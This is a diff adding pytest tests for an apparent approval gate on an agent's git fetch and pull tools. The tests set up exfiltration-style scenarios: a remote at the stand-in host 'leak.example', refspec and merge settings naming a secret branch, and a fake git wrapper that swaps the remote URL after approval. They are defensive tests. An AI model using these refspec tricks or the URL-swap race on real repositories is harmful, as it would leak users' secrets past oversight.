@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import subprocess
 import time
@@ -434,6 +435,75 @@ async def test_a_remote_that_is_new_is_asked_about(tmp_path: Path) -> None:
         result = await box.call("git_fetch", {}, session="two")
         assert result.error is not None
         assert result.error.code != "needs_approval"
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("remote.origin.fetch", "+refs/heads/s3cret:refs/remotes/origin/x"),
+        ("branch.main.merge", "refs/heads/s3cret"),
+    ],
+)
+async def test_names_in_new_settings_of_a_known_remote_are_asked_about(
+    tmp_path: Path, setting: str, value: str
+) -> None:
+    (tmp_path / "secret.txt").write_text("s3cret")
+    address = "http://leak.example/x.git"
+    for words in ("init -q -b main", f"remote add origin {address}"):
+        subprocess.run(["git", *words.split()], cwd=tmp_path, check=True)
+    async with opened(tmp_path) as box:
+        state = await tainted(box, "one")
+        state.remember_link(address)
+        known = await box.call("git_fetch", {}, session="one")
+        assert known.error is not None
+        assert known.error.code != "needs_approval"
+        subprocess.run(["git", "config", setting, value], cwd=tmp_path, check=True)
+        for name in ("git_fetch", "git_pull"):
+            result = await box.call(name, {}, session="one")
+            assert result.error is not None
+            assert result.error.code == "needs_approval"
+            assert "s3cret" in result.error.message
+
+
+async def test_a_remote_that_changes_after_the_answer_is_not_fetched(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """By a git that changes it when the call has been judged once more."""
+    program, counter, last = tmp_path / "bin/git", tmp_path / "counter", tmp_path / "last"
+    repo, real = tmp_path / "repo", shutil.which("git")
+    program.parent.mkdir()
+    repo.mkdir()
+    (repo / "secret.txt").write_text("s3cret")
+    program.write_text(
+        f"""#!/bin/sh
+"{real}" "$@"
+code=$?
+echo >> {counter}
+if [ -e {last} ] && [ "$(wc -l < {counter})" -eq "$(cat {last})" ]; then
+    "{real}" config -f {repo}/.git/config remote.origin.url http://other.example/x.git
+fi
+exit $code
+"""
+    )
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
+    for words in ("init -q", "remote add origin http://leak.example/x.git"):
+        subprocess.run([real, *words.split()], cwd=repo, check=True)
+
+    async def answer(question: Question) -> PersonAnswer:
+        assert "leak.example" in question.reason
+        last.write_text(str(2 * len(counter.read_text())))
+        return True
+
+    async with opened(repo) as box:
+        await tainted(box, "one")
+        await box.call("git_status", {}, session="one")  # git says once what the user has set
+        counter.write_text("")
+        caller = Caller("test", ask=answer)
+        result = await box.call("git_fetch", {}, session="one", caller=caller)
+    assert last.exists()
+    assert result.error is not None
+    assert result.error.code == "conflict", result.render()
 
 
 async def test_a_person_allows_a_site_for_the_conversation(tmp_path: Path) -> None:
